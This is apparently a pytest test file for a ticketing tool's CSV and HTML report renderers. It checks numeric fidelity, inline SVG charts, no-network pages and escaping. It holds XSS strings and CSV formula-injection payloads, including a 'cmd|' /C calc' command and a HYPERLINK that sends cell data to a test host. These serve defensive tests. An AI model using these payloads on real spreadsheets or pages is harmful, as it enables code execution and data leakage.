"""render_csv / render_html: the same numbers as the JSON, every table, inline SVG charts, escaped text, no network."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import date
from functools import cache
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from connector.events import updated as replace
from connector.reports.build import REPORTS, ReportError, ReportOptions, build_report, check_table, table_names
from connector.reports.render import _columns, _tables, csv_cell, render_csv, render_html
from tests import helpers
from tests.helpers import AGENT, CUSTOMER
from tests.report_support import CHARTS, NOW, example_config, example_events, read_page, shown

EVIL = '<script>alert("x")</script> & $x$ Ltd'


@cache
def _report(name: str, **options: Any) -> dict[str, Any]:
    return build_report(name, example_config(), events=example_events(), now=NOW, options=ReportOptions(**options))


@cache
def _page(name: str) -> str:
    return render_html(_report(name))


def _empty(name: str) -> dict[str, Any]:
    """The report of a store with no events yet (credits: no contract, so no period to list)."""
    return build_report(name, example_config(contracts=name != "credits"), events=[], now=NOW,
                        options=ReportOptions(start="2031-01-01", end="2031-01-31"))


def _sections(text: str) -> dict[str, list[dict[str, str]]]:
    """Split a multi-table CSV into its `# section` tables, each read back as dicts."""
    out = {}
    for block in text.strip("\n").split("\n\n"):
        first, _, body = block.partition("\n")
        assert first.startswith("# ")
        out[first[2:]] = list(csv.DictReader(io.StringIO(body)))
    return out


def _same(cell: str, value: Any) -> bool:
    """A CSV cell holds the JSON value: empty for None, the same number, or the same text."""
    if value is None:
        return cell == ""
    if isinstance(value, bool):
        return cell == str(value)
    if isinstance(value, int | float):
        return float(cell) == float(value)
    return cell == str(value)


def _assert_rows(parsed: list[dict[str, str]], rows: list[dict[str, Any]]) -> None:
    assert len(parsed) == len(rows)
    for got, want in zip(parsed, rows, strict=True):
        for key, value in want.items():
            if isinstance(value, dict | list):
                continue
            assert _same(got[key], value), (key, got[key], value)


# --- CSV ------------------------------------------------------------------------------------------------


def test_sla_csv_is_the_rows_table_with_the_same_numbers():
    report = _report("sla")
    text = render_csv(report)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert next(csv.reader(io.StringIO(text))) == list(report["rows"][0])   # the JSON's column order
    _assert_rows(parsed, report["rows"])
    assert len(text.splitlines()) == len(report["rows"]) + 1           # the breach list is not in the CSV
    assert report["breaches"] and "late_seconds" not in text
    row = next(r for r in parsed if r["metric"] == "first_response" and r["severity"] == "P1"
               and r["policy"] == "standard")
    assert (row["met"], row["breached"], row["attainment_pct"]) == ("3", "1", "75.0")  # 1008: met in 30m of 1h


def test_sla_csv_follows_period_and_grouping():
    report = _report("sla", period="month", by=("group", "metric"))
    parsed = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert list(parsed[0])[:3] == ["period", "metric", "group"]
    _assert_rows(parsed, report["rows"])
    assert {r["period"] for r in parsed} >= {"2026-03", "2026-11"}


def test_credits_csv_has_counts_instead_of_the_nested_lists():
    report = _report("credits")
    rows = [r for r in report["rows"] if r["contract"] == "test-globex"]
    assert rows and any(r["breaches"] for r in rows)
    parsed = [r for r in csv.DictReader(io.StringIO(render_csv(report))) if r["contract"] == "test-globex"]
    _assert_rows(parsed, rows)
    for got, want in zip(parsed, rows, strict=True):
        assert int(got["breaches_count"]) == len(want["breaches"]) == want["breached"]
        assert int(got["exclusions_count"]) == len(want["exclusions"])
        assert got["organizations"] == "Globex"
    assert "breaches" not in parsed[0] and "exclusions" not in parsed[0]
    march = next(r for r in parsed if r["period"] == "2026-03")
    assert float(march["attainment_pct"]) < 70 and float(march["credit_pct"]) == 25
    assert float(march["credit_amount"]) == 250


def test_kpis_csv_has_one_table_per_section():
    report = _report("kpis")
    text = render_csv(report)
    tables = _sections(text)
    assert list(tables) == ["backlog", "trends", "reopens", "paused", "escalations", "groups"]
    assert text.startswith('# backlog\n"severity","<1d","1-3d","3-7d","7-30d",">30d","total"\n"P1",')
    _assert_rows(tables["backlog"], report["backlog"]["rows"])
    _assert_rows(tables["trends"], report["trends"])
    _assert_rows(tables["reopens"], [report["reopens"]])
    _assert_rows(tables["paused"][:-1], report["paused"]["rows"])
    total = tables["paused"][-1]
    assert total["severity"] == "(all)" and float(total["paused_pct"]) == report["paused"]["paused_pct"]
    _assert_rows(tables["escalations"], report["escalations"]["rows"])
    assert sum(int(r["count"]) for r in tables["escalations"]) == report["escalations"]["total"]
    _assert_rows(tables["groups"], report["groups"])


def test_audit_csv_has_one_table_per_section():
    report = _report("audit")
    tables = _sections(render_csv(report))
    assert list(tables) == ["confusion", "top_share_by_period", "top_share_by_org", "top_share_by_group",
                            "top_share_by_agent", "rules", "findings", "bounced"]
    _assert_rows(tables["confusion"], report["confusion"]["rows"])
    assert list(tables["confusion"][0]) == ["declared", "P1", "P2", "P3", "P4", "total"]
    _assert_rows(tables["top_share_by_period"], report["top_share"]["by_period"])
    _assert_rows(tables["top_share_by_org"], report["top_share"]["by_org"])
    _assert_rows(tables["top_share_by_group"], report["top_share"]["by_group"])
    # tickets nobody is assigned to are named, not an empty agent cell (the JSON keeps null)
    by_agent = report["top_share"]["by_agent"]
    assert by_agent[0]["agent"] is None
    assert [r["agent"] for r in tables["top_share_by_agent"]] == ["(unassigned)", "agent-7", "agent-9"]
    _assert_rows(tables["top_share_by_agent"][1:], by_agent[1:])
    _assert_rows(tables["rules"], report["rules"])
    # the example's tickets 1006 (P1 lowered 10 minutes before its first reply was due) and 1007 (pending
    # 4 minutes after the customer wrote)
    assert [(f["kind"], f["ticket_id"]) for f in tables["findings"]] == [
        ("severity_lowered_before_breach", "1006"), ("pause_after_customer_reply", "1007")]


def test_findings_flatten_the_ticket_into_columns():
    report = dict(_report("audit"))
    finding = {"kind": "pause_after_customer_reply", "ticket": {"source": "zendesk", "account": "acme", "id": "7"},
               "at": "2026-03-02T10:00:00Z", "detail": "status pending 2 min after a customer reply", "group": None,
               "org": "Globex"}
    report["findings"] = {"counts": {"pause_after_customer_reply": 1}, "items": [finding]}
    (row,) = _sections(render_csv(report))["findings"]
    assert row == {"kind": "pause_after_customer_reply", "ticket_source": "zendesk", "ticket_account": "acme",
                   "ticket_id": "7", "at": "2026-03-02T10:00:00Z",
                   "detail": "status pending 2 min after a customer reply", "group": "", "org": "Globex"}
    cells = read_page(render_html(report)).tables["table-findings"]
    assert cells["rows"] == [["pause_after_customer_reply", "zendesk", "acme", "7", "2026-03-02T10:00:00Z",
                              "status pending 2 min after a customer reply", "–", "Globex"]]


@pytest.mark.parametrize("name", REPORTS)
def test_an_empty_report_has_headers_and_no_rows(name: str):
    report = _empty(name)
    text = render_csv(report)
    first = {"sla": ["metric", "severity"], "credits": ["contract", "organizations"], "olas": ["agreement", "team"],
             "attribution": ["period", "holder"]}
    if name in first:   # one table
        header, *rows = csv.reader(io.StringIO(text))
        assert rows == [] and header[:2] == first[name]
    else:
        tables = _sections(text)
        sections = 6 if name == "kpis" else 8   # kpis: backlog … groups; audit: confusion … findings, bounced
        assert len(tables) == sections and text.count("# ") == sections


# --- HTML -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", REPORTS)
def test_html_has_a_chart_per_figure_as_inline_svg(name: str):
    page = _page(name)
    reader = read_page(page)
    assert reader.charts == dict.fromkeys(CHARTS[name], 1)
    assert reader.nodata == []
    assert page.startswith("<!DOCTYPE html>") and page.count("<svg") == len(CHARTS[name])
    assert "<?xml" not in page and "<!DOCTYPE svg" not in page and "<metadata>" not in page
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert len(ids) == len(set(ids))                 # each chart's ids are prefixed: no clash on the page
    refs = set(re.findall(r"url\(#([^)]+)\)", page))
    assert refs <= set(ids)
    assert f"{_report(name)['now']}" in page and "Time zone" in page


@pytest.mark.parametrize("name", REPORTS)
def test_html_makes_no_network_request(name: str):
    page = _page(name)
    assert not re.search(r"""(?:src|href|action)\s*=\s*["']?\s*(?:https?:)?//""", page, re.I)
    assert not re.search(r"<(?:script|link|iframe|img|object|embed)\b", page, re.I)
    assert "@import" not in page and not re.search(r"url\(\s*['\"]?(?:https?:)?//", page)
    assert "default-src 'none'" in page              # the page's CSP forbids fetching anything


def test_html_tables_show_the_json_numbers():
    report = _report("sla")
    tables = read_page(_page("sla")).tables
    rows = tables["table-rows"]
    assert [h for h in rows["headers"]] == list(report["rows"][0])
    for cells, row in zip(rows["rows"], report["rows"], strict=True):
        assert cells == [shown(v) for v in row.values()]
    breaches = tables["table-breaches"]
    assert breaches["headers"][:3] == ["ticket_source", "ticket_account", "ticket_id"]
    assert len(breaches["rows"]) == len(report["breaches"]) == report["breaches_total"]
    assert breaches["rows"][0][2] == report["breaches"][0]["ticket"]["id"]


def test_html_tables_of_kpis_audit_and_credits():
    kpis = read_page(_page("kpis")).tables
    assert set(kpis) == {"table-backlog", "table-trends", "table-reopens", "table-paused", "table-escalations",
                         "table-groups"}
    assert kpis["table-backlog"]["headers"] == ["severity", "<1d", "1-3d", "3-7d", "7-30d", ">30d", "total"]
    assert kpis["table-reopens"]["rows"] == [[shown(v) for v in _report("kpis")["reopens"].values()]]
    audit = read_page(_page("audit")).tables
    assert audit["table-confusion"]["headers"] == ["declared", "P1", "P2", "P3", "P4", "total"]
    assert [r[0] for r in audit["table-top_share_by_org"]["rows"]] == \
        [r["org"] for r in _report("audit")["top_share"]["by_org"]]
    assert [r[0] for r in audit["table-top_share_by_agent"]["rows"]] == ["(unassigned)", "agent-7", "agent-9"]
    credits = read_page(_page("credits")).tables
    assert {"table-rows", "table-credit-breaches", "table-credit-exclusions"} <= set(credits)
    # four instants become one column of local dates; the counts that repeat breached/excluded are left out
    headers = credits["table-rows"]["headers"]
    assert headers[:5] == ["contract", "organizations", "period", "contract_period", "dates"]
    assert not {"period_start", "counted_from", "breaches_count", "exclusions_count"} & set(headers)
    breached = sum(r["breached"] for r in _report("credits")["rows"])
    assert len(credits["table-credit-breaches"]["rows"]) == breached


def _evil_events() -> list:
    created = "2026-03-02 10:00"
    out = []
    for n, org in enumerate((EVIL, "Initech"), start=1):
        tid = str(n)
        out += [helpers.event(created, "ticket.created", status="new", created=created, ticket_id=tid, org=org,
                              group="<b>ops</b>", subject="<img src=x onerror=alert(1)>", event_id=f"c{tid}"),
                helpers.event("2026-03-02 11:30", "comment.added", comment=AGENT, created=created, ticket_id=tid,
                              org=org, group="<b>ops</b>", event_id=f"a{tid}"),
                helpers.event("2026-03-02 15:00", "comment.added", comment=CUSTOMER, created=created, ticket_id=tid,
                              org=org, group="<b>ops</b>", event_id=f"u{tid}")]
    return out


@pytest.mark.parametrize("name", REPORTS)
def test_html_escapes_text_from_customers(name: str):
    contract = {"name": "<i>evil</i>", "organizations": [EVIL], "credits": [{"below": "99%", "credit": "5%"}]}
    ola = {"name": "<b>ops</b> triage", "team": "<b>ops</b>", "when": {"group": ["<b>ops</b>"]},
           "targets": {"P3": {"first_touch": "1m", "ownership": "1h"}}}
    config = helpers.config(contracts=[contract], olas=[ola])
    options = ReportOptions(by=("org", "group", "metric")) if name == "sla" else ReportOptions()
    report = build_report(name, config, events=_evil_events(), now=helpers.utc("2026-03-04 12:00"), options=options)
    page = render_html(report)
    for raw in ("<script", "<img", "<b>ops", "<i>evil"):
        assert raw not in page
    assert ("&lt;i&gt;evil&lt;/i&gt;" if name == "credits" else "&lt;b&gt;ops&lt;/b&gt;") in page
    if name in ("sla", "audit", "credits"):
        words = re.sub(r"</?span>", "", page)   # a cell of words wraps between <span>s of escaped text
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; $x$ Ltd" in words   # tables (the $ stays)
    if name == "sla":
        # chart labels: matplotlib writes the name into the SVG escaped, without reading `$…$` as maths
        svg = page[page.index("<svg"):page.rindex("</svg>")]
        assert "&lt;script&gt;" in svg and "$x$" in svg
    assert render_csv(report).count(EVIL.replace('"', '""')) >= (1 if name in ("sla", "audit", "credits") else 0)


@pytest.mark.parametrize("name", REPORTS)
def test_an_empty_report_renders_with_a_no_data_note(name: str):
    page = render_html(_empty(name))
    reader = read_page(page)
    assert "<svg" not in page
    assert sorted(reader.nodata) == sorted(CHARTS[name]) and set(reader.charts) == set(CHARTS[name])
    assert "2031-01-01" in page                       # the window is shown
    empty_tables = [t for t in reader.tables.values() if t["rows"] == [["no rows"]]]
    assert empty_tables and all(t["headers"] for t in reader.tables.values())


@pytest.mark.parametrize("name", REPORTS)
def test_html_is_deterministic(name: str):
    assert render_html(_report(name)) == _page(name)


def test_an_unknown_report_is_refused():
    with pytest.raises(ValueError, match="unknown report"):
        render_html({"report": "nope"})
    with pytest.raises(ValueError, match="unknown report"):
        render_csv({"report": "nope"})


# --- CSV formula injection (issue 11; OWASP "CSV Injection") -----------------------------------------------

FORMULAS = {"source": "=src", "account": "+acct", "ticket": "-2+3+cmd|' /C calc'!A0",
            "group": '=HYPERLINK("http://x.test/?"&A1,"help")', "org": "@SUM(1)", "assignee": "+cmd|' /C calc'!A0",
            "org2": "Acme;=1+2"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _formula_config():
    return helpers.config(
        priority_map={FORMULAS["source"]: {"normal": "P3", "urgent": "P1"}},
        classification={"default": "P3", "rules": [{"name": "+rule", "severity": "P1", "when": {"text": "(?i)down"}}]},
        escalations=[{"name": "-esc", "when": {"metric": "first_response", "breached": True},
                      "actions": [{"add_tags": ["late"]}]}],
        contracts=[{"name": "=contract()", "organizations": [FORMULAS["org"], FORMULAS["org2"]],
                    "credits": [{"below": "99%", "credit": "5%"}]}],
        olas=[{"name": "=ola()", "team": "+team", "when": {"group": [FORMULAS["group"]]},
               "targets": {"P1": {"first_touch": "1h"}, "P3": {"first_touch": "1h"}}}])


def _formula_events() -> list:
    """Two tickets whose every identifier is a formula; one pauses right after a customer reply (a finding)."""
    out = []
    for n, org, subject in ((1, FORMULAS["org"], "site down"), (2, FORMULAS["org2"], "help")):
        common = dict(source=FORMULAS["source"], account=FORMULAS["account"], ticket_id=f"{FORMULAS['ticket']}{n}",
                      org=org, group=FORMULAS["group"], created="2026-03-02 10:00", subject=subject)
        out += [helpers.event("2026-03-02 10:00", "ticket.created", status="new", **common),
                helpers.event("2026-03-02 16:00", "comment.added", comment=AGENT, **common),
                helpers.event("2026-03-02 16:30", "comment.added", comment=CUSTOMER, **common),
                helpers.event("2026-03-02 16:35", status="pending", **common)]
    return [replace(e, ticket=replace(e.ticket, assignee=FORMULAS["assignee"])) for e in out]


def _formula_report(name: str) -> dict[str, Any]:
    options = ReportOptions(by=("group", "org", "source"), period="month") if name == "sla" else ReportOptions()
    return build_report(name, _formula_config(), events=_formula_events(), now=helpers.utc("2026-03-04 12:00"),
                        options=options)


def _csv_tables(text: str) -> list[list[list[str]]]:
    """Every table of a CSV report as rows of cells (headers first), `# section` lines left out."""
    return [[row for row in csv.reader(io.StringIO(block)) if row and not row[0].startswith("# ")]
            for block in text.strip("\n").split("\n\n")]


@pytest.mark.parametrize("name", REPORTS)
def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(name: str):
    report = _formula_report(name)
    text = render_csv(report)
    tables = _csv_tables(text)
    expected = [(rows, _columns(rows, fallback)) for _, rows, fallback in _tables(report)]
    if name in ("sla", "credits", "olas", "attribution"):
        expected = expected[:1]   # the first table alone (the sla breach list is not part of the CSV)
    assert len(tables) == len(expected)
    neutralized = 0
    for (header, *cells), (rows, columns) in zip(tables, expected, strict=True):
        assert header == columns
        assert len(cells) == len(rows)
        for got, row in zip(cells, rows, strict=True):
            for cell, column in zip(got, columns, strict=True):
                value = row.get(column)
                if value is None:
                    assert cell == ""
                elif isinstance(value, int | float) and not isinstance(value, bool):
                    assert float(cell) == value        # a number is written as the number, never prefixed
                elif str(value).startswith(TRIGGERS):
                    assert cell == "'" + str(value), (column, cell)
                    neutralized += 1
                else:
                    assert cell == str(value), (column, cell)
                assert not cell.startswith(TRIGGERS), (column, cell)
    # every formula reached the CSV: sla 2 rows × (group, source, org) but "Acme;=1+2"; credits the contract and
    # its organizations; kpis 2 escalations and the group; audit org, group, agent, rule, 2 findings × 4 + org
    # olas: the agreement and team of 2 rows; attribution: the team that held the tickets
    assert neutralized == {"sla": 5, "credits": 2, "kpis": 3, "audit": 13, "olas": 4, "attribution": 1}[name]
    # text is quoted, so a `;` inside a cell cannot start a new one in a spreadsheet that splits on it
    if name in ("sla", "audit"):
        assert '"Acme;=1+2"' in text
    if name not in ("credits", "olas", "attribution"):   # quoted, the inner quotes doubled, the formula prefixed
        assert "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"help\"\")\"" in text


def test_each_text_column_of_the_reports_is_neutralized():
    seen = {}
    for name in REPORTS:
        for header, *rows in _csv_tables(render_csv(_formula_report(name))):
            for row in rows:
                for column, cell in zip(header, row, strict=True):
                    if cell.startswith("'"):
                        seen.setdefault(column, cell)
    # group, organization, agent, source, account, ticket, contract, rule and escalation names: every text column
    assert {"group", "org", "agent", "source", "ticket_source", "ticket_account", "ticket_id", "contract",
            "organizations", "rule", "escalation"} <= set(seen), sorted(seen)
    assert seen["agent"] == "'" + FORMULAS["assignee"] and seen["org"] in ("'" + FORMULAS["org"],)


def test_csv_cell_follows_owasp():
    for trigger in TRIGGERS:
        assert csv_cell(f"{trigger}1+2") == f"'{trigger}1+2"
    for safe in ("Acme", "P1", "2026-03", "(all)", "<1d", " =1", "'=1", "１+1", ""):
        assert csv_cell(safe) == safe
    for number in (-5, -0.5, 0, 12.25, -2.0):
        assert csv_cell(number) == number    # a negative number we computed stays a number
    assert csv_cell(None) == "" and csv_cell(True) == "True" and csv_cell(["x"]) == "['x']"


def test_a_negative_number_is_written_bare_and_text_that_looks_like_one_is_not():
    report = dict(_report("sla"))
    report["rows"] = [{**report["rows"][0], "breach_seconds": -5, "p50_seconds": -0.5, "policy": "-5"}]
    line = render_csv(report).splitlines()[1]
    assert line.endswith(",-5") and ",-0.5," in line  # breach_seconds is the last column; both bare
    assert "\"'-5\"" in line                           # the policy is text: quoted, prefixed
    (row,) = csv.DictReader(io.StringIO(render_csv(report)))
    assert row["breach_seconds"] == "-5" and row["p50_seconds"] == "-0.5" and row["policy"] == "'-5"


def test_control_characters_at_the_start_of_a_stored_name_are_neutralized():
    # ingest refuses them today, but a store filled by an older version may hold them
    report = dict(_report("kpis"))
    report["groups"] = [{"group": name, "created": 1, "open": 1, "top_severity": 0}
                        for name in ("\t=1+2", "\r=1+2", "\n=1+2", "@x")]
    groups = _sections(render_csv(report))["groups"]
    assert [g["group"] for g in groups] == ["'\t=1+2", "'\r=1+2", "'\n=1+2", "'@x"]


# --- one table alone (issue 12) -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", REPORTS)
def test_each_table_alone_is_a_plain_csv_of_that_table(name: str):
    report = _report(name)
    tables = {section: (rows, _columns(rows, fallback)) for section, rows, fallback in _tables(report)}
    assert (*tables, "skipped") == table_names(name)           # the names --table takes are the tables there are
    for table, (rows, columns) in tables.items():
        text = render_csv(report, table=table)
        header, *cells = csv.reader(io.StringIO(text))
        assert header == columns and len(cells) == len(rows), table
        assert "# " not in text.split("\n", 1)[0]                 # no section line: a spreadsheet reads it as is
        for got, row in zip(cells, rows, strict=True):
            assert got == ["" if row.get(c) is None else str(csv_cell(row.get(c))) for c in columns]
    # nothing was left out of the example: the skipped table is its header alone
    assert render_csv(report, table="skipped") == '"what","count","reason"\n'


def test_the_sla_breach_list_is_a_table_of_its_own():
    report = _report("sla")
    parsed = list(csv.DictReader(io.StringIO(render_csv(report, table="breaches"))))
    assert len(parsed) == len(report["breaches"]) > 0
    first = report["breaches"][0]
    assert (parsed[0]["ticket_id"], parsed[0]["metric"], float(parsed[0]["late_seconds"])) == \
        (first["ticket"]["id"], first["metric"], first["late_seconds"])
    assert render_csv(report) == render_csv(report, table="rows")  # the default CSV is still the rows alone


def test_the_credits_breaches_and_exclusions_are_tables_of_their_own():
    report = _report("credits")
    breaches = list(csv.DictReader(io.StringIO(render_csv(report, table="breaches"))))
    assert len(breaches) == sum(r["breached"] for r in report["rows"]) > 0
    assert set(breaches[0]) >= {"contract", "period", "ticket_id", "metric", "due_at", "late_seconds"}
    header = next(csv.reader(io.StringIO(render_csv(report, table="exclusions"))))
    assert header[:2] == ["contract", "period"]


@pytest.mark.parametrize(("name", "table"), [("audit", "top_share by_agent"), ("audit", "breaches"),
                                             ("sla", "findings"), ("kpis", ""), ("credits", "Rows")])
def test_an_unknown_table_is_an_error_listing_the_tables(name: str, table: str):
    with pytest.raises(ReportError) as caught:
        render_csv(_report(name), table=table)
    assert caught.value.parameter == "table"
    assert caught.value.message.startswith(f"table: the {name} report has no table {table!r}; its tables are ")
    assert caught.value.message.endswith(", ".join(table_names(name)))
    with pytest.raises(ReportError):
        check_table(name, table)


def test_missing_group_org_and_agent_are_named_in_csv_and_html():
    report = dict(_report("audit"))
    share = dict(report["top_share"])
    share["by_group"] = [{"group": None, "tickets": 2, "top": 1, "share_pct": 50.0}]
    share["by_org"] = [{"org": None, "tickets": 2, "top": 1, "share_pct": 50.0}]
    report["top_share"] = share
    tables = _sections(render_csv(report))
    assert tables["top_share_by_group"][0]["group"] == "(no group)"
    assert tables["top_share_by_org"][0]["org"] == "(no organization)"
    page = read_page(render_html(report)).tables
    assert page["table-top_share_by_group"]["rows"][0][0] == "(no group)"
    assert page["table-top_share_by_agent"]["rows"][0][0] == "(unassigned)"
    kpis = dict(_report("kpis"))
    kpis["groups"] = [{"group": None, "created": 3, "open": 1, "top_severity": 0}]
    assert _sections(render_csv(kpis))["groups"][0]["group"] == "(no group)"


# --- what fits a page (issue 12) ----------------------------------------------------------------------------


def test_instants_in_tables_may_break_after_the_date():
    page = _page("sla")
    due = _report("sla")["breaches"][0]["due_at"]
    # the cell may break between the date and the time, never at a hyphen inside the date
    assert f'<td class="wrap instant"><span>{due[:10]}</span><wbr><span>{due[10:]}</span></td>' in page
    assert "td.wrap{white-space:normal}" in page and "td.wrap span{white-space:nowrap}" in page
    assert read_page(page).tables["table-breaches"]["rows"][0][10] == due   # the cell's text is unchanged


def test_a_window_that_cuts_a_contract_period_is_said_in_words():
    report = build_report("credits", example_config(), events=example_events(), now=NOW,
                          options=ReportOptions(start="2026-03-01", end="2026-03-31"))
    (note,) = report["notes"]
    page = render_html(report)
    assert html.escape(note) in page and 'class="note report-note"' in page
    rows = read_page(page).tables["table-rows"]
    quarterly = next(r for r in rows["rows"] if r[0] == "globex-standard")
    assert quarterly[2:5] == ["2026-Q1", "quarter", "2026-01-01 – 2026-03-31 (counted: 2026-03-01 – 2026-03-31)"]
    monthly = next(r for r in rows["rows"] if r[0] == "initech-enterprise")
    assert monthly[2:5] == ["2026-03", "month", "2026-03-01 – 2026-03-31"]
    parsed = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert [(r["contract"], r["contract_period"], r["partial"]) for r in parsed] == [
        ("initech-enterprise", "month", "False"), ("globex-standard", "quarter", "True"),
        ("test-globex", "month", "False")]


# --- the edges of the accepted range ------------------------------------------------------------------------

EDGE_ZONES = ("UTC", "America/New_York", "Pacific/Kiritimati", "Pacific/Pago_Pago", "Etc/GMT+12", "Asia/Kathmandu")


def test_credits_html_of_a_window_reaching_december_2099_or_january_1970():
    # a period's exclusive end past 2099 (2100-01-01T05:00:00Z in New York) or its start before 1970 (in a zone
    # east of UTC) was read back through the ingest check of the accepted range: a traceback, a 500 on the web
    late = build_report("credits", example_config(), events=example_events(), now=NOW,
                        options=ReportOptions(end="2099-12-31"))
    assert late["to"] == "2100-01-01T05:00:00Z"
    rows = read_page(render_html(late)).tables["table-rows"]["rows"]
    assert ["globex-standard", "Globex", "2099-Q4", "quarter", "2099-10-01 – 2099-12-31"] in [r[:5] for r in rows]
    assert ["test-globex", "Globex", "2099-12", "month", "2099-12-01 – 2099-12-31"] == rows[-1][:5]
    early = build_report("credits", example_config(), events=example_events(), now=NOW,
                         options=ReportOptions(start="1970-01-01", end="1970-01-15", timezone="Asia/Tokyo"))
    assert early["rows"][0]["period_start"] == "1969-12-31T15:00:00Z"
    rows = read_page(render_html(early)).tables["table-rows"]["rows"]
    assert rows[0][2:5] == ["1970-01", "month", "1970-01-01 – 1970-01-31 (counted: 1970-01-01 – 1970-01-15)"]


EDGE_DATES = st.one_of(st.sampled_from([date(1970, 1, 1), date(1970, 1, 2), date(2099, 12, 30), date(2099, 12, 31)]),
                       st.dates(min_value=date(1970, 1, 1), max_value=date(2099, 12, 31)))


@settings(max_examples=40, deadline=None, database=None)
@example(name="credits", first=None, last=date(2099, 12, 31), zone="UTC", period=None)
@example(name="credits", first=date(1970, 1, 1), last=None, zone="Asia/Kathmandu", period=None)
@given(name=st.sampled_from(REPORTS), first=st.none() | EDGE_DATES, last=st.none() | EDGE_DATES,
       zone=st.sampled_from(EDGE_ZONES), period=st.sampled_from([None, "day", "week", "month", "quarter"]))
def test_every_window_in_the_accepted_range_renders_in_every_format(name: str, first: date | None,
                                                                    last: date | None, zone: str,
                                                                    period: str | None):
    if first is not None and last is not None and last < first:
        first, last = last, first
    options = ReportOptions(start=None if first is None else first.isoformat(),
                            end=None if last is None else last.isoformat(), timezone=zone, period=period)
    try:
        report = build_report(name, example_config(), events=example_events(), now=NOW, options=options)
    except ReportError as err:   # too many periods in a long window: refused, naming what to narrow
        assert err.parameter in ("period", "from") and "at most 2000 periods" in err.message
        return
    assert json.loads(json.dumps(report)) == report
    assert render_csv(report)
    page = render_html(report)
    assert page.startswith("<!DOCTYPE html>") and page.endswith("</html>\n")
